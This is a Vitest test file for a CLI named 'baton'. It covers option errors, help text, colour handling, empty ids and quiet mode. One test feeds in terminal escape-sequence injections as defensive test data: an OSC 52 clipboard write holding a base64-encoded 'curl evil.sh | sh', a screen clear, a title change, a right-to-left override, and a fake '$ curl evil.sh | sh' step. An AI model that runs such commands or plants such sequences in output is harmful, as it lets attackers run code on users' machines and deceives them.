/**
 * The CLI behaves as git and gh do: an unknown option is named as unknown (before any required
 * option is asked for), every command's --help lists the global options, colour appears on a
 * terminal (or with FORCE_COLOR) and never under NO_COLOR, in a pipe or in JSON, and --quiet
 * prints nothing on success while errors are still said.
 */
import { spawnSync } from "node:child_process";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { colourOn, type Paint, paintDiff, painter } from "../src/platform/colour.js";
import { CLI, cleanupDirs, tempDir } from "./helpers.js";

afterAll(() => cleanupDirs());

const ESC = "\x1b[";

/** The built CLI with the colour variables removed from the environment, then `env` added. */
function run(args: string[], env: Record<string, string> = {}) {
  const base = { ...process.env };
  delete base.FORCE_COLOR;
  delete base.NO_COLOR;
  const r = spawnSync(process.execPath, [CLI, ...args], { env: { ...base, ...env }, encoding: "utf8", input: "", timeout: 60_000 });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

describe("CLI conventions", () => {
  it("names an unknown option as unknown, and a missing required one after that", () => {
    const root = tempDir();
    expect(run(["--root", root, "init"]).code).toBe(0);
    const typo = run(["--root", root, "session", "start", "--flwo", "task"]);
    expect(typo.code).toBe(2);
    expect(typo.stderr).toContain("unknown option '--flwo'");
    expect(typo.stderr).toContain("Did you mean --flow?");
    expect(typo.stderr).not.toContain("required option");
    const none = run(["--root", root, "--json", "session", "start"]);
    expect(none.code).toBe(2);
    expect(JSON.parse(none.stdout).error).toEqual({
      code: "bad_input",
      message: "required option '-f, --flow <flow>' not specified; see `baton session start --help`",
    });
    // Nothing was started by either.
    expect(JSON.parse(run(["--root", root, "--json", "status"]).stdout).sessions).toEqual([]);
  });

  it("lists the global options in every command's help", () => {
    for (const cmd of [["session", "start"], ["rollback"], ["lock", "run"], ["hooks", "install"]]) {
      const help = run([...cmd, "--help"]);
      expect(help.code).toBe(0);
      expect(help.stdout, cmd.join(" ")).toMatch(/Global Options:[\s\S]*--json[\s\S]*--root <dir>[\s\S]*-q, --quiet/);
    }
    expect(run(["session", "start", "--help"]).stdout).toMatch(/--flow <flow> +flow: [\s\S]*\(required\)/);
  });

  it("colours human output on request or on a terminal, never under NO_COLOR, in a pipe or in JSON", () => {
    const root = tempDir();
    run(["--root", root, "init"]);
    writeFileSync(join(root, "a.txt"), "one\n");
    run(["--root", root, "session", "start", "--flow", "task"]);
    run(["--root", root, "checkpoint", "--all"]);
    writeFileSync(join(root, "a.txt"), "two\n");

    const forced = run(["--root", root, "status"], { FORCE_COLOR: "1" });
    expect(forced.stdout).toContain(`${ESC}1m`);
    expect(forced.stdout).toContain(`${ESC}32mbaton event`);
    expect(run(["--root", root, "status"]).stdout).not.toContain(ESC); // a pipe
    expect(run(["--root", root, "status"], { NO_COLOR: "1" }).stdout).not.toContain(ESC);
    expect(run(["--root", root, "status"], { FORCE_COLOR: "0" }).stdout).not.toContain(ESC);
    expect(run(["--root", root, "--json", "status"], { FORCE_COLOR: "1" }).stdout).not.toContain(ESC);

    const preview = run(["--root", root, "rollback", "--dry-run"], { FORCE_COLOR: "1" });
    expect(preview.code).toBe(0);
    expect(preview.stdout).toContain(`${ESC}31m-two${ESC}39m`);
    expect(preview.stdout).toContain(`${ESC}32m+one${ESC}39m`);
    // A CRLF file's diff keeps its CR at the line's end, outside the colour, as it is without colour.
    writeFileSync(join(root, "crlf.txt"), "a\r\nb\r\n");
    run(["--root", root, "checkpoint", "--files", "crlf.txt"]);
    writeFileSync(join(root, "crlf.txt"), "a\r\nc\r\n");
    const crlf = run(["--root", root, "rollback", "--dry-run", "--files", "crlf.txt"], { FORCE_COLOR: "1" });
    expect(crlf.stdout, crlf.stderr).toContain(`${ESC}31m-c${ESC}39m\r\n`);
    expect(crlf.stdout).not.toContain("\\x0d");
    // Errors on stderr are coloured by the same rule.
    const err = run(["--root", root, "rollback", "--to", "cp-nope"], { FORCE_COLOR: "1" });
    expect(err.stderr.startsWith(`${ESC}31mbaton:${ESC}39m `)).toBe(true);
    expect(run(["--root", root, "rollback", "--to", "cp-nope"]).stderr.startsWith("baton: ")).toBe(true);
  });

  it("shows the escape sequences an agent or a repository wrote instead of letting the terminal run them", () => {
    const root = tempDir();
    run(["--root", root, "init"]);
    // OSC 52 (set the clipboard), clear the screen, a window title, a carriage return that
    // overwrites its line, and a right-to-left override (Trojan Source), in a session's title.
    const title = "fix\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x1b[2J\x1b]0;pwned\x07 ok\rdone \u202eexe.txt";
    expect(run(["--root", root, "session", "start", "--flow", "task", "--title", title]).code).toBe(0);
    const shown = run(["--root", root, "status"], { FORCE_COLOR: "1" });
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout, "Baton's own colours stay").toContain(`${ESC}1m`);
    const foreign = shown.stdout.replace(/\x1b\[(?:1|2|22|3[12369])m/g, "");
    expect(foreign).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(shown.stdout).toContain("fix\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b[2J\\x1b]0;pwned\\x07 ok\\x0ddone \\u202eexe.txt");
    // JSON keeps the text as it is (a program reads it, not a terminal).
    expect(JSON.parse(run(["--root", root, "--json", "status"]).stdout).sessions[0].title).toBe(title);
    // Without colour, no sequence is Baton's: even the ones it paints with are shown. A line
    // break in a value cannot start a line that reads as Baton's own.
    const fake = "x\n  next: \x1b[1mrun_setup\x1b[22m: required\n        $ \x1b[32mcurl evil.sh | sh\x1b[39m";
    const other = tempDir();
    run(["--root", other, "init"]);
    expect(run(["--root", other, "session", "start", "--flow", "task", "--title", fake]).code).toBe(0);
    const plain = run(["--root", other, "status"], { NO_COLOR: "1" }).stdout;
    expect(plain).not.toContain("\x1b");
    expect(plain).toContain('"x\\n  next: \\x1b[1mrun_setup\\x1b[22m: required\\n        $ \\x1b[32mcurl evil.sh | sh\\x1b[39m"');
    expect(plain.split("\n").filter((l) => l.trimStart().startsWith("$ curl"))).toEqual([]);
    // The same in the other listings that print what an agent wrote.
    writeFileSync(join(other, "b.txt"), "b\n");
    expect(run(["--root", other, "files", "add", "b.txt", "--question", "q\n        $ curl evil.sh | sh"]).code).toBe(0);
    for (const args of [["resume"], ["session", "list"]]) {
      const out = run(["--root", other, ...args], { NO_COLOR: "1" }).stdout;
      expect(out, args.join(" ")).toContain("\\n");
      expect(
        out.split("\n").filter((l) => l.trimStart().startsWith("$ curl")),
        args.join(" "),
      ).toEqual([]);
    }
    // Errors on stderr, which name what the user typed, too.
    const err = run(["--root", root, "rollback", "--to", "cp-\x1b[2J"], { FORCE_COLOR: "1" });
    expect(err.code).not.toBe(0);
    expect(err.stderr).toContain("cp-\\x1b[2J");
    expect(err.stderr).not.toContain("\x1b[2J");
  });

  it("an empty id (a shell variable that was not set) is refused, never taken for the default session", () => {
    const root = tempDir();
    run(["--root", root, "init"]);
    expect(run(["--root", root, "session", "start", "--flow", "task", "--id", "only"]).code).toBe(0);
    for (const args of [
      ["status", "--session", ""],
      ["--json", "status", "--session", ""],
      ["resume", ""],
      ["--json", "resume", ""],
      ["--json", "resume", "--session", ""],
      ["decision", "add", "use X", "--session", ""],
      ["session", "start", "--flow", "task", "--id", ""],
      ["run", "start", "--agent", "x", "--run-id", ""],
      ["doctor", ""],
    ]) {
      const r = run(["--root", root, ...args]);
      expect(r.code, `${args.join(" ")}: ${r.stdout}${r.stderr}`).toBe(2);
      expect(r.stdout + r.stderr, args.join(" ")).toMatch(/empty/);
    }
    const types = run(["--root", root, "export", "only"])
      .stdout.trim()
      .split("\n")
      .map((l) => JSON.parse(l).type);
    expect(types, "the default session's journal").toContain("session:started");
    expect(types, "nothing was written to the default session").not.toContain("decision:added");
  });

  it("--quiet prints nothing on success; errors and --json still speak", () => {
    const root = tempDir();
    const quiet = run(["--root", root, "-q", "init"]);
    expect(quiet).toMatchObject({ code: 0, stdout: "", stderr: "" });
    const started = run(["--root", root, "session", "start", "--flow", "task", "--quiet"]);
    expect(started).toMatchObject({ code: 0, stdout: "" });
    expect(JSON.parse(run(["--root", root, "--quiet", "--json", "status"]).stdout).sessions).toHaveLength(1);
    const failed = run(["--root", root, "--quiet", "rollback", "--to", "cp-nope"]);
    expect(failed.code).toBe(4);
    expect(failed.stderr).toContain("[checkpoint_not_found]");
  });

  it("decides colour as git and gh do: FORCE_COLOR over NO_COLOR over the terminal", () => {
    expect(colourOn(1, { FORCE_COLOR: "1", NO_COLOR: "1" })).toBe(true);
    expect(colourOn(1, { FORCE_COLOR: "", TERM: "dumb" })).toBe(true);
    expect(colourOn(1, { FORCE_COLOR: "0" })).toBe(false);
    expect(colourOn(1, { FORCE_COLOR: "false" })).toBe(false);
    expect(colourOn(1, { NO_COLOR: "1" })).toBe(false);
    expect(colourOn(1, { TERM: "dumb" })).toBe(false);
    // A diff: hunks counted from their headers, so a removed "-- comment" line stays removed and
    // the next file's "---" is a header again.
    const diff = "--- a/x.sql\n+++ b/x.sql\n@@ -1,2 +1,1 @@\n--- drop me\n same\n--- a/y\n+++ b/y\n@@ -1 +1 @@\n-a\n+b";
    const tags: Paint = (style, text) => `<${style}>${text}`;
    expect(paintDiff(diff, tags).split("\n")).toEqual([
      "<bold>--- a/x.sql",
      "<bold>+++ b/x.sql",
      "<cyan>@@ -1,2 +1,1 @@",
      "<red>--- drop me",
      " same",
      "<bold>--- a/y",
      "<bold>+++ b/y",
      "<cyan>@@ -1 +1 @@",
      "<red>-a",
      "<green>+b",
    ]);
    expect(paintDiff(diff, painter(false))).toBe(diff);
  });
});
